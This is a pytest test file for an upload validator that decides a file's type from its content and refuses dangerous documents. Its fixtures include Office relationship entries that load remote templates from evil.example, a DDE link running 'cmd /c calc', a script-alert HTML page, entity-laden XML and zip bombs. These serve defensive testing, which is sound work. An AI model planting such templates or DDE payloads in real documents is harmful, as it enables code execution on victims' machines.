from __future__ import annotations

import io
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.media import EXTENSIONS, FileCode, FileRefused, declared_extension, media_type_of
from storage.office import DOCX, ODT, XLSX
from tests.storage import documents


def _type(content: bytes, name: str = "") -> str:
    return media_type_of(io.BytesIO(content), name)


def _refusal(content: bytes, name: str = "") -> FileRefused:
    with pytest.raises(FileRefused) as refusal:
        _type(content, name)
    assert refusal.value.code is FileCode.TYPE_NOT_ALLOWED
    return refusal.value


@pytest.mark.parametrize("media_type", list(documents.GOOD))
def test_each_allowed_type_is_known_by_its_content(media_type: str) -> None:
    content, name = documents.GOOD[media_type]

    assert _type(content, name) == media_type
    assert declared_extension(name) in EXTENSIONS[media_type]


def test_every_allowed_type_has_an_example() -> None:
    assert set(documents.GOOD) == set(EXTENSIONS)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (documents.EXE, "договор.pdf"),
        (documents.EXE, "договор.txt"),
        (documents.GIF, "кот.gif"),
        (documents.GIF, "кот.png"),
        (documents.OLD_WORD, "жалоба.doc"),
        (documents.OLD_WORD, "жалоба.docx"),
        (documents.archive({"a.txt": b"text"}), "архив.zip"),
        (documents.archive({"a.txt": b"text"}), "жалоба.docx"),
        (documents.PDF, "договор.pdf.exe"),
        (b"<html><script>alert(1)</script></html>", "page.html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "picture.svg"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "picture.png"),
        (b"just words", "words"),
    ],
)
def test_what_is_not_on_the_list_is_refused(content: bytes, name: str) -> None:
    refusal = _refusal(content, name)

    assert "Принимаются: PDF" in refusal.detail
    assert name not in refusal.detail


def test_a_picture_under_another_pictures_extension_is_taken_for_what_it_is() -> None:
    assert _type(documents.PNG, "IMG_0001.jpg") == "image/png"
    assert _type(documents.PDF, "Ответ от 12.05.2024") == "application/pdf"


@pytest.mark.parametrize(
    "extra",
    [
        {"word/vbaProject.bin": b"macro"},
        {"WORD/VBAPROJECT.BIN": b"macro"},
        {"word/activeX/activeX1.xml": b"<x/>"},
        {"word/embeddings/oleObject1.bin": b"package"},
        {"xl/embeddings/Microsoft_Word_97.doc": b"package"},
    ],
)
def test_a_document_with_macros_or_controls_is_refused(extra: dict[str, bytes]) -> None:
    assert "макросы" in _refusal(documents.office(DOCX, extra), "a.docx").detail


def test_a_document_with_a_chart_that_has_its_table_is_taken() -> None:
    assert _type(documents.office(DOCX, {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"table"}), "a.docx") == DOCX


def _relation(kind: str, target: str) -> bytes:
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    one = f'<Relationship Id="r1" Type="{type_}" Target="{target}" TargetMode="External"/>'
    return f'<Relationships xmlns="{namespace}">{one}</Relationships>'.encode()


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/a.dotm"),
        ("attachedTemplate", "file://evil.example/share/a.dotm"),
        ("attachedTemplate", r"\\evil.example\a.dotm"),
        ("attachedTemplate", "&#104;ttp://evil.example/a.dotm"),
        ("oleObject", "mhtml:http://evil.example/a!x-usc:b"),
        ("frame", "http://evil.example/"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_that_loads_from_elsewhere_is_refused(kind: str, target: str, encoding: str) -> None:
    relations = _relation(kind, target).decode().encode(encoding)

    refusal = _refusal(documents.office(DOCX, {"word/_rels/settings.xml.rels": relations}), "a.docx")

    assert "загружает" in refusal.detail


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "file:///C:/Users/oe/Templates/Normal.dotm"),
        ("hyperlink", "https://example.org/"),
    ],
)
def test_a_document_with_links_or_a_template_of_its_own_disk_is_taken(kind: str, target: str) -> None:
    assert _type(documents.office(DOCX, {"word/_rels/settings.xml.rels": _relation(kind, target)}), "a.docx") == DOCX


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_table_that_starts_programmes_is_refused(encoding: str) -> None:
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode(encoding)

    refusal = _refusal(documents.office(XLSX, {"xl/externalLinks/externalLink1.xml": link}), "a.xlsx")

    assert "загружает" in refusal.detail


@pytest.mark.parametrize("relations", [b"<a><b></a>", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'])
def test_relations_that_are_no_plain_xml_are_damage(relations: bytes) -> None:
    refusal = _refusal(documents.office(DOCX, {"word/_rels/settings.xml.rels": relations}), "a.docx")

    assert "повреждён" in refusal.detail


def test_a_macro_document_under_an_innocent_name_is_refused() -> None:
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"

    assert "макросы" in _refusal(documents.office(DOCX, content_type=macro_type), "a.docx").detail
    assert "макросы" in _refusal(documents.open_document(ODT, extra={"Basic/Standard/a.xml": b"x"}), "a.odt").detail


def test_a_document_under_a_password_is_refused() -> None:
    manifest = b'<manifest:encryption-data manifest:checksum="x"/>'

    assert "паролем" in _refusal(documents.open_document(ODT, manifest), "a.odt").detail


@pytest.mark.parametrize(
    ("bomb", "reason"),
    [
        (documents.office(XLSX, {"xl/big.xml": b"\0" * 40_000_000}), "слишком много места"),
        (documents.understating_bomb(12_345_678), "повреждён"),
        (documents.overlapping_bomb(), "слишком много места"),
        (
            documents.archive({f"word/{number:0>120}.xml": b"" for number in range(7000)}, stored=True),
            "слишком много места",
        ),
    ],
    ids=["ratio", "understated", "overlapping", "many parts"],
)
def test_a_bomb_is_refused_soon(bomb: bytes, reason: str) -> None:
    began = time.process_time()

    refusal = _refusal(bomb, "a.docx")

    assert reason in refusal.detail
    assert time.process_time() - began < 2


def test_a_document_of_honest_size_passes_though_it_packs_well() -> None:
    rows = b"".join(b"<row r='%d'><c>0</c></row>" % number for number in range(100_000))

    assert _type(documents.office(XLSX, {"xl/sheet1.xml": rows}), "a.xlsx") == XLSX


@given(st.data())
def test_a_damaged_document_is_refused_or_known_never_a_crash(data: st.DataObject) -> None:
    content = bytearray(documents.GOOD[data.draw(st.sampled_from([DOCX, ODT]))][0])
    for place in data.draw(st.lists(st.integers(4, len(content) - 1), min_size=1, max_size=6)):
        content[place] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(4, len(content)))

    try:
        known = _type(bytes(content[:cut]), "a.docx")
    except FileRefused as refusal:
        known = refusal.code
    assert known in {DOCX, XLSX, ODT, FileCode.TYPE_NOT_ALLOWED}


@pytest.mark.parametrize(
    "content",
    [
        "Ответьте,\tпожалуйста.\r\n".encode("cp1251"),
        "Ответьте".encode("utf-8-sig"),
        "ж".encode() * 200_000,
        b"a" + "ж".encode() * 200_000,  # letters on both sides of the pieces that are read
        b"BMW X5",
        b"<b>not a page, only words</b>",
    ],
)
def test_plain_text_in_either_encoding_is_taken(content: bytes) -> None:
    assert _type(content, "письмо.TXT") == "text/plain"


@pytest.mark.parametrize(
    "content", [b"a\0b", b"\x1b[2Jx", "текст".encode("utf-16"), b"x" * 300_000 + b"\x07", b"\x98\xd0"]
)
def test_text_with_control_characters_is_not_plain(content: bytes) -> None:
    _refusal(content, "письмо.txt")
